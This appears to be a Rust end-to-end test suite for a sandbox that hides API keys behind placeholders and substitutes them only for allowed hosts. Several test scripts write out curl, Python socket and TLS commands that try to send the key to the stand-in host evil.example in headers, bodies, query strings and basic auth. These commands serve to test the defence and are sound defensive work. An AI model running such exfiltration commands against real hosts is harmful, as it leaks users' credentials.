//! End-to-end: secrets through the boundary, with real clients in the sandbox (curl, python
//! urllib and raw sockets, node fetch) and a recording upstream in the fake internet. Each
//! test asserts what the client saw *and* what the destination actually received.

mod support;

use std::io::Write;
use support::*;

const VALUE: &str = "sk-real-7f3a9c";
const PH: &str = "$MSB_OPENAI_API_KEY";
const ENV: &[(&str, &str)] = &[("OPENAI_API_KEY", VALUE)];

/// `--upstream-ca` for the fixture's CA plus `extra`.
/// `standin run --upstream-ca <fixture CA> EXTRA -- sh -c SCRIPT`, the value in standin's env.
fn run(net: &FakeInternet, extra: &[&str], script: &str) -> std::process::Output {
    SecretRun::new(net, ENV).args(extra).run(script)
}

/// A config file (kept alive by the returned handle).
fn config(text: &str) -> tempfile::NamedTempFile {
    let mut f = tempfile::NamedTempFile::new().unwrap();
    f.write_all(text.as_bytes()).unwrap();
    f
}

/// Send a last request to `url` and wait until its destination logged it, so every byte an
/// earlier (blocked) request could have delivered is in the log before we look.
const SENTINEL: &str = "curl --http1.1 -s -m 5 -o /dev/null https://evil.example/sentinel-zz; curl --http1.1 -s -m 5 -o /dev/null http://evil.example/sentinel-zz;";

fn sentinel(net: &FakeInternet) {
    assert!(net.wait_received("/sentinel-zz"), "sentinel never arrived");
}

const ONE: &str = "OPENAI_API_KEY@api.openai.com";

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn the_sandbox_sees_only_the_placeholder() {
    let net = FakeInternet::with_http(&[80], &[443]);
    let o = run(
        &net,
        &["--secret", ONE],
        &format!(
            r#"echo "env=$OPENAI_API_KEY"; \
            printf '%s%s\n' '{}' '{}' > /dev/shm/needle; \
            grep -ralF -f /dev/shm/needle /proc/[0-9]*/environ /proc/[0-9]*/cmdline /etc /tmp /workspace 2>/dev/null | grep . && echo LEAK; \
            echo checked"#,
            &VALUE[..4],
            &VALUE[4..]
        ),
    );
    let out = stdout(&o);
    assert!(out.contains(&format!("env={PH}")), "{}", report(&o, &net));
    assert!(out.contains("checked"), "{}", report(&o, &net));
    assert!(!out.contains("LEAK"), "{}", report(&o, &net));
    assert!(!out.contains(VALUE), "{}", report(&o, &net));
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn substitutes_in_headers_and_basic_auth_for_the_allowed_host() {
    let net = FakeInternet::with_http(&[80], &[443]);
    let o = run(
        &net,
        &["--secret", ONE],
        r#"curl --http1.1 -sS -m 5 -o /dev/null -w '%{http_code}\n' -H "Authorization: Bearer $OPENAI_API_KEY" -H "X-Api-Key: k=$OPENAI_API_KEY" https://api.openai.com/v1/models; \
           curl --http1.1 -sS -m 5 -o /dev/null -w '%{http_code}\n' -u "user:$OPENAI_API_KEY" https://api.openai.com/basic"#,
    );
    assert_eq!(stdout(&o), "200\n200\n", "{}", report(&o, &net));
    let got = net.received_at(UPSTREAM_V4);
    assert!(
        got.contains(&format!("Authorization: Bearer {VALUE}\r\n")),
        "{got}"
    );
    assert!(got.contains(&format!("X-Api-Key: k={VALUE}\r\n")), "{got}");
    let basic = base64_encode(format!("user:{VALUE}").as_bytes());
    assert!(
        got.contains(&format!("Authorization: Basic {basic}\r\n")),
        "{got}"
    );
    assert!(!got.contains(PH), "{got}");
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn python_and_node_clients_get_substitution_with_the_sandbox_ca_trusted_by_default() {
    let net = FakeInternet::with_http(&[80], &[443]);
    let node = std::path::Path::new("/usr/bin/node").exists();
    let script = format!(
        r#"python3 -c 'import os, urllib.request as u; r = u.Request("https://api.openai.com/py", headers={{"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}}); print(u.urlopen(r, timeout=5).status)'; \
        {}"#,
        if node {
            r#"node -e 'fetch("https://api.openai.com/node", {headers: {authorization: "Bearer " + process.env.OPENAI_API_KEY}}).then(r => console.log(r.status), e => console.log("node error", e.cause || e))'"#
        } else {
            "echo 200"
        }
    );
    let o = run(&net, &["--secret", ONE], &script);
    assert_eq!(stdout(&o), "200\n200\n", "{}", report(&o, &net));
    let got = net.received_at(UPSTREAM_V4);
    assert!(got.contains("GET /py "), "{got}");
    assert_eq!(
        got.matches(&format!("Bearer {VALUE}")).count(),
        if node { 2 } else { 1 },
        "{got}"
    );
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn plain_http_is_not_substituted_unless_tls_identity_is_waived() {
    let net = FakeInternet::with_http(&[80], &[443]);
    let script = r#"curl --http1.1 -sS -m 5 -o /dev/null -w '%{http_code}\n' -H "Authorization: Bearer $OPENAI_API_KEY" http://api.openai.com/plain"#;
    let o = run(&net, &["--secret", ONE], script);
    assert_eq!(stdout(&o), "200\n", "{}", report(&o, &net));
    let got = net.received_at(UPSTREAM_V4);
    assert!(got.contains(&format!("Bearer {PH}")), "{got}");
    assert!(!got.contains(VALUE), "{got}");

    let cfg = config(
        "[[secret]]\nenv = \"OPENAI_API_KEY\"\nallow_hosts = [\"api.openai.com\"]\nrequire_tls_identity = false\n",
    );
    let c = cfg.path().to_str().unwrap();
    let net = FakeInternet::with_http(&[80], &[443]);
    let o = run(&net, &["--config", c], script);
    assert_eq!(stdout(&o), "200\n", "{}", report(&o, &net));
    assert!(
        net.received_at(UPSTREAM_V4)
            .contains(&format!("Bearer {VALUE}"))
    );
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn an_unknown_host_gets_nothing_in_any_form() {
    let net = FakeInternet::with_http(&[80], &[443]);
    let sb = SecretRun::new(&net, ENV).secret(ONE).logged();
    let o = sb.run(&format!(
            r#"for u in https://evil.example/h http://evil.example/h; do curl --http1.1 -sS -m 5 -H "X-Key: $OPENAI_API_KEY" $u >/dev/null 2>&1; echo "header=$?"; done; \
            curl --http1.1 -sS -m 5 --data-urlencode "key=$OPENAI_API_KEY" https://evil.example/pct >/dev/null 2>&1; echo "percent=$?"; \
            curl --http1.1 -sS -m 5 -H 'Content-Type: application/json' --data '{{"k":"\u0024MSB_OPENAI_API_KEY"}}' https://evil.example/json >/dev/null 2>&1; echo "json=$?"; \
            curl --http1.1 -sS -m 5 "https://evil.example/q?k=%24MSB_OPENAI_API_KEY" >/dev/null 2>&1; echo "query=$?"; \
            curl --http1.1 -sS -m 5 -u "u:$OPENAI_API_KEY" https://evil.example/basic >/dev/null 2>&1; echo "basic=$?"; \
            {SENTINEL}"#
        ));
    let out = stdout(&o);
    for k in ["header", "percent", "json", "query", "basic"] {
        assert!(
            !out.contains(&format!("{k}=0")),
            "{k} request succeeded\n{}",
            report(&o, &net)
        );
    }
    sentinel(&net);
    let evil = net.received_at(EVIL_V4);
    assert!(!evil.contains("MSB_OPENAI"), "{evil}");
    assert!(!evil.contains("%24MSB"), "{evil}");
    assert!(!evil.contains(VALUE), "{evil}");
    for path in ["/h", "/pct", "/json", "/q", "/basic"] {
        assert!(
            !evil.contains(&format!(" {path}")),
            "{path} reached evil: {evil}"
        );
    }
    let ev = sb.events.read();
    let forms: Vec<&str> = [
        "\"form\":\"raw\"",
        "\"form\":\"percent\"",
        "\"form\":\"json\"",
        "\"form\":\"base64\"",
    ]
    .into_iter()
    .filter(|f| !ev.contains(f))
    .collect();
    assert!(forms.is_empty(), "missing {forms:?} in events:\n{ev}");
    assert!(ev.contains("\"secret\":\"OPENAI_API_KEY\""), "{ev}");
    assert!(ev.contains("\"kind\":\"secret-violation\""), "{ev}");
    assert!(!ev.contains(VALUE), "{ev}");
    assert!(
        stderr(&o).contains("secret violation"),
        "{}",
        report(&o, &net)
    );
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn plain_block_is_silent_on_the_terminal_resets_the_client_and_is_recorded() {
    let net = FakeInternet::with_http(&[80], &[443]);
    let sb = SecretRun::new(&net, ENV).secret(ONE);
    let o = sb.run(r#"curl --http1.1 -sS -m 5 -H "X-Key: $OPENAI_API_KEY" https://evil.example/h; echo "rc=$?""#);
    // curl: 56 = "Recv failure: Connection reset by peer" (35 if during the handshake).
    let err = stderr(&o);
    assert!(stdout(&o).contains("rc=56"), "{}", report(&o, &net));
    assert!(err.contains("reset"), "{}", report(&o, &net));
    assert!(!err.contains("secret violation"), "{err}");
    // The events file, asked for, records it all the same.
    let ev = sb.events.read();
    assert!(
        ev.lines()
            .any(|l| l.contains("\"kind\":\"secret-violation\"")
                && l.contains("\"action\":\"block\"")
                && l.contains("\"sni\":\"evil.example\"")),
        "{ev}"
    );
    assert!(!ev.contains(VALUE), "{ev}");
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn a_hard_coded_address_with_a_valid_certificate_for_the_allowed_name_gets_no_substitution() {
    // evil's server presents a certificate valid for api.openai.com (the fixture's leaf
    // covers every test name), so only the DNS pin tells them apart.
    let net = FakeInternet::with_http(&[80], &[443]);
    let o = run(
        &net,
        &["--secret", ONE],
        &format!(
            r#"getent hosts api.openai.com >/dev/null; \
            curl --http1.1 -sS -m 5 --resolve api.openai.com:443:{EVIL_V4} -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/pinned >/dev/null 2>&1; echo "rc=$?"; \
            {SENTINEL}"#
        ),
    );
    assert!(!stdout(&o).contains("rc=0"), "{}", report(&o, &net));
    sentinel(&net);
    let evil = net.received_at(EVIL_V4);
    assert!(!evil.contains("/pinned"), "{evil}");
    assert!(!evil.contains(VALUE), "{evil}");
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn bodies_fixed_and_chunked_are_substituted_when_enabled_and_encoded_ones_blocked() {
    let cfg = config(
        "[[secret]]\nenv = \"OPENAI_API_KEY\"\nallow_hosts = [\"api.openai.com\"]\ninject = { body = true, query_params = true }\n",
    );
    let c = cfg.path().to_str().unwrap();
    let net = FakeInternet::with_http(&[80], &[443]);
    let o = run(
        &net,
        &["--config", c],
        &format!(
            r#"curl --http1.1 -sS -m 5 -o /dev/null -w '%{{http_code}}\n' --data "fixed=$OPENAI_API_KEY&again=$OPENAI_API_KEY" https://api.openai.com/fixed; \
            printf 'chunk=%s' "$OPENAI_API_KEY" | curl --http1.1 -sS -m 5 -o /dev/null -w '%{{http_code}}\n' -H 'Transfer-Encoding: chunked' --data-binary @- https://api.openai.com/chunked; \
            curl --http1.1 -sS -m 5 -o /dev/null -w '%{{http_code}}\n' "https://api.openai.com/query?key=%24MSB_OPENAI_API_KEY&raw=$OPENAI_API_KEY"; \
            printf '%s' "$OPENAI_API_KEY" | gzip | curl --http1.1 -sS -m 5 -o /dev/null -H 'Content-Encoding: gzip' --data-binary @- https://api.openai.com/gz-clean; echo "gz-clean=$?"; \
            curl --http1.1 -sS -m 5 -o /dev/null -H 'Content-Encoding: gzip' --data-binary "$OPENAI_API_KEY" https://api.openai.com/gz; echo "gz=$?"; \
            {SENTINEL}"#
        ),
    );
    let out = stdout(&o);
    assert!(out.starts_with("200\n200\n200\n"), "{}", report(&o, &net));
    // A gzip body whose compressed bytes do not show the placeholder goes through unchanged;
    // one that shows it cannot be rewritten and is blocked.
    assert!(out.contains("gz-clean=0"), "{}", report(&o, &net));
    assert!(!out.contains("gz=0"), "{}", report(&o, &net));
    sentinel(&net);
    let got = net.received_at(UPSTREAM_V4);
    let body = format!("fixed={VALUE}&again={VALUE}");
    assert!(
        got.contains(&format!("Content-Length: {}\r\n", body.len())),
        "{got}"
    );
    assert!(got.contains(&format!("\r\n\r\n{body}")), "{got}");
    assert!(got.contains(&format!("chunk={VALUE}")), "{got}");
    assert!(
        got.contains(&format!("/query?key={VALUE}&raw={VALUE} ")),
        "{got}"
    );
    assert!(!got.contains(" /gz "), "{got}");
    assert!(!got.contains(PH), "{got}");
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn injection_scopes_can_be_turned_off() {
    let cfg = config(
        "[[secret]]\nenv = \"OPENAI_API_KEY\"\nallow_hosts = [\"api.openai.com\"]\ninject = { headers = false, basic_auth = false }\n",
    );
    let c = cfg.path().to_str().unwrap();
    let net = FakeInternet::with_http(&[80], &[443]);
    let o = run(
        &net,
        &["--config", c],
        r#"curl --http1.1 -sS -m 5 -o /dev/null -w '%{http_code}\n' -H "Authorization: Bearer $OPENAI_API_KEY" -u "u:$OPENAI_API_KEY" https://api.openai.com/off; \
           curl --http1.1 -sS -m 5 -o /dev/null -w '%{http_code}\n' --data "b=$OPENAI_API_KEY" "https://api.openai.com/off2?k=$OPENAI_API_KEY""#,
    );
    assert_eq!(stdout(&o), "200\n200\n", "{}", report(&o, &net));
    let got = net.received_at(UPSTREAM_V4);
    // The allowed host receives the placeholder, unchanged, and never the value.
    assert!(!got.contains(VALUE), "{got}");
    assert!(got.contains(&format!("b={PH}")), "{got}");
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn host_patterns_custom_placeholders_and_any_host() {
    let cfg = config(
        r#"
[[secret]]
env = "OPENAI_API_KEY"
placeholder = "{{openai}}"
allow_hosts = ["*.openai.com"]

[[secret]]
env = "ANY_KEY"
value_env = "OPENAI_API_KEY"
placeholder = "ANY-PLACEHOLDER"
allow_any_host_dangerous = true
"#,
    );
    let c = cfg.path().to_str().unwrap();
    let net = FakeInternet::with_http(&[80], &[443]);
    let o = run(
        &net,
        &["--config", c],
        r#"echo "ph=$OPENAI_API_KEY any=$ANY_KEY"; \
           curl --http1.1 -sS -m 5 -o /dev/null -w '%{http_code}\n' -H "X-A: $OPENAI_API_KEY" https://api.openai.com/pattern; \
           curl --http1.1 -sS -m 5 -o /dev/null -w '%{http_code}\n' -H "X-B: $ANY_KEY" https://evil.example/any"#,
    );
    let out = stdout(&o);
    assert!(
        out.starts_with("ph={{openai}} any=ANY-PLACEHOLDER\n200\n200\n"),
        "{}",
        report(&o, &net)
    );
    assert!(
        net.received_at(UPSTREAM_V4)
            .contains(&format!("X-A: {VALUE}"))
    );
    assert!(net.received_at(EVIL_V4).contains(&format!("X-B: {VALUE}")));
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn passthrough_hosts_receive_the_placeholder_never_the_value() {
    let net = FakeInternet::with_http(&[80], &[443]);
    let o = run(
        &net,
        &["--secret", ONE, "--secret-passthrough", "traces.example"],
        &format!(
            r#"curl --http1.1 -sS -m 5 -o /dev/null -w '%{{http_code}}\n' -H "Authorization: Bearer $OPENAI_API_KEY" --data "trace: key=$OPENAI_API_KEY" https://traces.example/v1/traces; \
            curl --http1.1 -sS -m 5 -H "X: $OPENAI_API_KEY" https://evil.example/x >/dev/null 2>&1; echo "evil=$?"; {SENTINEL}"#
        ),
    );
    let out = stdout(&o);
    assert!(out.starts_with("200\n"), "{}", report(&o, &net));
    assert!(!out.contains("evil=0"), "{}", report(&o, &net));
    sentinel(&net);
    let traces = net.received_at(TRACES_V4);
    assert!(
        traces.contains(&format!("Authorization: Bearer {PH}")),
        "{traces}"
    );
    assert!(traces.contains(&format!("trace: key={PH}")), "{traces}");
    assert!(!net.received().contains(VALUE), "{}", net.received());
    assert!(!net.received_at(EVIL_V4).contains(" /x "));
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn per_secret_policy_overrides_the_sandbox_wide_one() {
    // Sandbox-wide: passthrough for every host (dangerous flag). The secret's own base
    // action (block) wins over it for non-matching hosts; its own passthrough host works.
    let cfg = config(
        r#"
[secrets]
passthrough_all_hosts_dangerous = true

[[secret]]
env = "OPENAI_API_KEY"
allow_hosts = ["api.openai.com"]
on_violation = "block"
passthrough = ["traces.example"]

[[secret]]
env = "OTHER_KEY"
value_env = "OPENAI_API_KEY"
placeholder = "OTHER-PH"
allow_hosts = ["api.openai.com"]
"#,
    );
    let c = cfg.path().to_str().unwrap();
    let net = FakeInternet::with_http(&[80], &[443]);
    let o = run(
        &net,
        &["--config", c],
        &format!(
            r#"curl --http1.1 -sS -m 5 -H "X: $OPENAI_API_KEY" https://evil.example/own >/dev/null 2>&1; echo "own=$?"; \
            curl --http1.1 -sS -m 5 -o /dev/null -w '%{{http_code}}\n' -H "X: $OPENAI_API_KEY" https://traces.example/own-pass; \
            curl --http1.1 -sS -m 5 -o /dev/null -w '%{{http_code}}\n' -H "X: $OTHER_KEY" https://evil.example/global-pass; {SENTINEL}"#
        ),
    );
    let out = stdout(&o);
    assert!(!out.contains("own=0"), "{}", report(&o, &net));
    assert!(out.contains("200\n200\n"), "{}", report(&o, &net));
    sentinel(&net);
    assert!(!net.received_at(EVIL_V4).contains("/own "));
    assert!(net.received_at(EVIL_V4).contains("X: OTHER-PH"));
    assert!(net.received_at(TRACES_V4).contains(&format!("X: {PH}")));
    assert!(!net.received().contains(VALUE));
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn block_and_terminate_kills_the_whole_sandbox() {
    let net = FakeInternet::with_http(&[80], &[443]);
    let marker = format!("{}", 3000 + std::process::id() % 1000);
    let sb = SecretRun::new(&net, ENV)
        .secret(ONE)
        .args(&["--on-secret-violation", "block-and-terminate"]);
    let o = sb.run(&format!(
            r#"sleep {marker}7 & \
            curl --http1.1 -sS -m 5 -H "X: $OPENAI_API_KEY" https://evil.example/exfil >/dev/null 2>&1; \
            echo survived; curl --http1.1 -sS -m 5 https://api.openai.com/after-terminate; sleep 30"#
        ));
    assert_eq!(o.status.code(), Some(99), "{}", report(&o, &net));
    assert!(!stdout(&o).contains("survived"), "{}", report(&o, &net));
    assert!(stderr(&o).contains("terminated"), "{}", report(&o, &net));
    let ps = std::process::Command::new("pgrep")
        .args(["-f", &format!("sleep {marker}7")])
        .output()
        .unwrap();
    assert!(ps.stdout.is_empty(), "background process survived");
    let got = net.received();
    assert!(!got.contains("/exfil"), "{got}");
    assert!(!got.contains("/after-terminate"), "{got}");
    let ev = sb.events.read();
    assert!(ev.contains("\"action\":\"block-and-terminate\""), "{ev}");
    assert!(ev.contains("\"kind\":\"sandbox-terminated\""), "{ev}");
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn values_sent_back_on_non_http_streams_are_scrubbed() {
    // The allowed host gets the value over HTTPS, then sends it back on a TLS stream that is
    // not HTTP, on a plain TCP stream (both relayed as scanned streams) and in a plain HTTP
    // response: the sandbox reads the placeholder each time.
    let net = FakeInternet::with_http(&[80], &[443]);
    let py = r#"
import os, socket, ssl
ph = os.environ["OPENAI_API_KEY"].encode()
ctx = ssl.create_default_context()
s = ctx.wrap_socket(socket.create_connection(("api.openai.com", 443), timeout=5), server_hostname="api.openai.com")
def whoami(s):
    s.sendall(b"WHOAMI\r\n\r\n")
    got = b""
    while not got.endswith(b"\n"):
        chunk = s.recv(100)
        if not chunk:
            break
        got += chunk
    return "placeholder" if got == b"Bearer " + ph + b"\n" else got
print("tls-whoami", whoami(s))
print("plain-whoami", whoami(socket.create_connection(("api.openai.com", 80), timeout=5)))
"#;
    let o = run(
        &net,
        &["--secret", ONE],
        &format!(
            "curl -sS -m 5 -o /dev/null -H \"Authorization: Bearer $OPENAI_API_KEY\" https://api.openai.com/remember; {}; curl -sS -m 5 http://api.openai.com/last-auth",
            python(py)
        ),
    );
    let out = stdout(&o);
    assert!(
        net.received()
            .to_ascii_lowercase()
            .contains(&format!("authorization: bearer {VALUE}")),
        "{}",
        report(&o, &net)
    );
    assert!(
        out.contains("tls-whoami placeholder"),
        "{}",
        report(&o, &net)
    );
    // A plain stream to the same address: the host may hold the value all the same.
    assert!(
        out.contains("plain-whoami placeholder"),
        "{}",
        report(&o, &net)
    );
    // And over plain HTTP, in a response body.
    assert!(
        out.contains("\"last_auth\": \"Bearer $MSB_OPENAI_API_KEY\""),
        "{}",
        report(&o, &net)
    );
    assert!(!out.contains(VALUE), "{}", report(&o, &net));
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn secrets_on_non_http_streams_are_scanned() {
    // A raw TCP protocol (not HTTP) to a plain port and TLS plaintext that is not HTTP:
    // placeholders in them are violations; other bytes flow.
    let net = FakeInternet::with_http(&[80, 2222], &[443]);
    let py = r#"
import os, socket, ssl
ph = os.environ["OPENAI_API_KEY"].encode()
def attempt(s, data):
    try:
        s.sendall(data)
        s.settimeout(3)
        return s.recv(100)
    except OSError as e:
        return type(e).__name__
s = socket.create_connection(("evil.example", 2222), timeout=5)
print("raw", attempt(s, b"HELLO " + ph + b"\n"))
ctx = ssl.create_default_context()
s = ctx.wrap_socket(socket.create_connection(("evil.example", 443), timeout=5), server_hostname="evil.example")
print("tls", attempt(s, b"\x00\x01binary " + ph))
"#;
    let o = run(
        &net,
        &["--secret", ONE],
        &format!("{}; {SENTINEL}", python(py)),
    );
    let out = stdout(&o);
    // The boundary resets both; Python reports a reset, or an empty read for TLS (its
    // `suppress_ragged_eofs` default turns an abrupt end into b"").
    assert!(
        out.contains("raw ConnectionResetError"),
        "{}",
        report(&o, &net)
    );
    assert!(
        ["tls ConnectionResetError", "tls b''", "tls SSL"]
            .iter()
            .any(|t| out.contains(t)),
        "{}",
        report(&o, &net)
    );
    sentinel(&net);
    assert!(!net.received().contains("MSB_"), "{}", net.received());
}

fn base64_encode(data: &[u8]) -> String {
    const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for c in data.chunks(3) {
        let b = [c[0], *c.get(1).unwrap_or(&0), *c.get(2).unwrap_or(&0)];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= c.len() {
                out.push(T[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[test]
fn bad_secret_flags_and_config_get_clear_errors() {
    let run_plain = |args: &[&str], env: &[(&str, &str)]| {
        std::process::Command::new(standin_bin())
            .arg("run")
            .args(args)
            .args(["--", "true"])
            .env_remove("OPENAI_API_KEY")
            .envs(env.iter().copied())
            .output()
            .unwrap()
    };
    let o = run_plain(&["--secret", "OPENAI_API_KEY"], &[]);
    assert_eq!(o.status.code(), Some(125));
    assert!(stderr(&o).contains("NAME@HOST"), "{}", stderr(&o));
    let o = run_plain(&["--secret", ONE], &[]);
    assert_eq!(o.status.code(), Some(125));
    assert!(
        stderr(&o).contains("--secret-file OPENAI_API_KEY=PATH"),
        "{}",
        stderr(&o)
    );
    let o = run_plain(
        &[
            "--secret",
            "K@api.openai.com",
            "--on-secret-violation",
            "passthrough",
        ],
        &[("K", "v")],
    );
    assert_eq!(o.status.code(), Some(125));
    assert!(stderr(&o).contains("block-and-terminate"), "{}", stderr(&o));
    let o = run_plain(&["--secret", "K@*"], &[("K", "v")]);
    assert!(
        stderr(&o).contains("allow_any_host_dangerous"),
        "{}",
        stderr(&o)
    );
    let o = run_plain(
        &["--secret", "K@a.example", "--secret", "J@b.example"],
        &[("K", "v\nX: y"), ("J", "w")],
    );
    assert!(stderr(&o).contains("CR, LF or NUL"), "{}", stderr(&o));
    assert!(!stderr(&o).contains("X: y"), "{}", stderr(&o));
    let o = run_plain(&["--secret-file", "K=/nonexistent"], &[]);
    assert!(stderr(&o).contains("no --secret K@HOST"), "{}", stderr(&o));
    let cfg = config("[[secret]]\nenv = \"K\"\nvalue = \"sk\"\nallow_hosts = [\"a.example\"]\n");
    let o = run_plain(&["--config", cfg.path().to_str().unwrap()], &[]);
    assert!(
        stderr(&o).contains("unknown field `value`"),
        "{}",
        stderr(&o)
    );
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn secret_file_values_and_tls_edge_cases() {
    let net = FakeInternet::with_http(&[80], &[443]);
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("key");
    std::fs::write(&file, format!("{VALUE}\n")).unwrap();
    let spec = format!("FILE_KEY={}", file.display());
    let o = run(
        &net,
        &[
            "--secret",
            "FILE_KEY@api.openai.com",
            "--secret-file",
            &spec,
        ],
        &format!(
            // 1. value from a file; 2. a ClientHello without SNI (an address): intercepted
            // with a leaf for the address, verified upstream by address, no substitution;
            // 3. plain HTTP bytes to the TLS port and 4. non-HTTP bytes: they end, never hang.
            r#"curl --http1.1 -sS -m 5 -o /dev/null -w 'file %{{http_code}}\n' -H "X: $FILE_KEY" https://api.openai.com/file; \
            curl --http1.1 -sS -m 5 -o /dev/null -w 'nosni %{{http_code}}\n' https://{UPSTREAM_V4}/nosni; \
            curl --http1.1 -sS -m 8 http://api.openai.com:443/plain >/dev/null 2>&1; echo "plain-on-tls=$?"; \
            printf 'hello\n' | timeout 8 python3 -c 'import socket,sys; s=socket.create_connection(("api.openai.com",443),timeout=6); s.sendall(b"hello\n"); print("raw-on-tls", s.recv(10))' 2>&1 | tail -1"#
        ),
    );
    let out = stdout(&o);
    assert!(out.contains("file 200"), "{}", report(&o, &net));
    assert!(out.contains("nosni 200"), "{}", report(&o, &net));
    // 28 would be curl's timeout: the connection must end on its own.
    assert!(
        out.contains("plain-on-tls=") && !out.contains("plain-on-tls=28"),
        "{}",
        report(&o, &net)
    );
    assert!(
        out.contains("raw-on-tls b''") || out.contains("raw-on-tls ConnectionReset"),
        "{}",
        report(&o, &net)
    );
    let got = net.received_at(UPSTREAM_V4);
    assert!(got.contains(&format!("X: {VALUE}\r\n")), "{got}");
    assert!(got.contains("/nosni"), "{got}");
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn an_untrusted_upstream_certificate_fails_the_request_and_gets_nothing() {
    let net = FakeInternet::with_http(&[80], &[443]);
    let events = EventsFile::new();
    // No --upstream-ca: the fixture's CA is not trusted by the boundary.
    let o = net.run_sh_env(
        &["--secret", ONE, "--events", events.arg()],
        ENV,
        &format!(
            r#"curl --http1.1 -sS -m 5 -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/untrusted >/dev/null 2>&1; echo "rc=$?"; {SENTINEL}"#
        ),
    );
    assert!(!stdout(&o).contains("rc=0"), "{}", report(&o, &net));
    sentinel(&net);
    let got = net.received();
    assert!(!got.contains("/untrusted"), "{got}");
    assert!(!got.contains(VALUE), "{got}");
    let ev = events.read();
    assert!(
        ev.contains("upstream-failed") && ev.contains("certificate"),
        "{ev}"
    );
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn a_host_that_echoes_the_value_back_delivers_only_the_placeholder() {
    let net = FakeInternet::with_http(&[80], &[443]);
    // The upstream answers with a JSON echo of every header it received (and, on /reflect,
    // the Authorization value again): the real value, in a response body.
    let o = run(
        &net,
        &["--secret", ONE],
        r#"curl --http1.1 -sS -m 5 -D - -H "Authorization: Bearer $OPENAI_API_KEY" -H 'Accept-Encoding: gzip' https://api.openai.com/reflect"#,
    );
    let out = stdout(&o);
    assert!(
        out.contains(&format!("Bearer {PH}")),
        "{}",
        report(&o, &net)
    );
    assert!(!out.contains(VALUE), "{}", report(&o, &net));
    let got = net.received_at(UPSTREAM_V4);
    assert!(
        got.contains(&format!("Authorization: Bearer {VALUE}")),
        "{got}"
    );
    // Asked for identity, so the echo could be scanned.
    assert!(got.contains("Accept-Encoding: identity"), "{got}");
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn a_host_that_echoes_substituted_basic_credentials_does_not_deliver_the_value() {
    let net = FakeInternet::with_http(&[80], &[443]);
    // Basic credentials are substituted inside their base64: an echo of the header carries
    // the real value base64-encoded. The sandbox decodes what it got back. On the connection
    // that sent them, the echo comes back exactly as the sandbox wrote it; from another
    // connection, the value's middle is starred out, whatever its alignment in the base64
    // (user names of 1, 2, 3 bytes).
    let py = r#"
import base64, json, os, urllib.request as u
ph = os.environ["OPENAI_API_KEY"]
def decode(auth):
    return base64.b64decode(auth.split(" ", 1)[1] + "==").decode("latin-1")
for user in ["u", "us", "use"]:
    auth = "Basic " + base64.b64encode((user + ":" + ph).encode()).decode()
    r = u.Request("https://api.openai.com/reflect", headers={"Authorization": auth})
    same = decode(json.loads(u.urlopen(r, timeout=5).read())["reflected"])
    print(user, "same", "placeholder" if same == user + ":" + ph else "other", repr(same))
    r = u.Request("https://api.openai.com/last-auth")
    other = decode(json.loads(u.urlopen(r, timeout=5).read())["last_auth"])
    print(user, "other", "starred" if "*" * 9 in other else "not starred", repr(other))
"#;
    let o = run(&net, &["--secret", ONE], &python(py));
    let out = stdout(&o);
    for user in ["u", "us", "use"] {
        assert!(
            out.contains(&format!("{user} same placeholder")),
            "{}",
            report(&o, &net)
        );
        assert!(
            out.contains(&format!("{user} other starred")),
            "{}",
            report(&o, &net)
        );
    }
    assert!(!out.contains(VALUE), "{}", report(&o, &net));
    let got = net.received_at(UPSTREAM_V4);
    assert_eq!(got.matches("Authorization: Basic ").count(), 3, "{got}");
    assert!(!got.contains(PH), "substituted: {got}");
}

#[test]
#[ignore = "needs root (creates network namespaces); .ci/run runs it with --include-ignored"]
fn a_scrubbed_stream_that_pauses_is_not_held_back() {
    let net = FakeInternet::with_http(&[80], &[443]);
    // The body's first piece ends with "s", the start of the value; the upstream then waits
    // 3 s. Scrubbing may hold the "s" back briefly, not until the next piece.
    let py = r#"
import http.client, os, ssl, socket
c = http.client.HTTPSConnection("api.openai.com", timeout=5, context=ssl.create_default_context())
c.request("GET", "/pause-after-s", headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]})
r = c.getresponse()
r.fp.raw._sock.settimeout(1.5)
try:
    print("first", repr(r.read(7)))
except (socket.timeout, TimeoutError):
    print("first timed out")
"#;
    let o = run(&net, &["--secret", ONE], &python(py));
    let out = stdout(&o);
    assert!(out.contains("first b'data: s'"), "{}", report(&o, &net));
}

#[test]
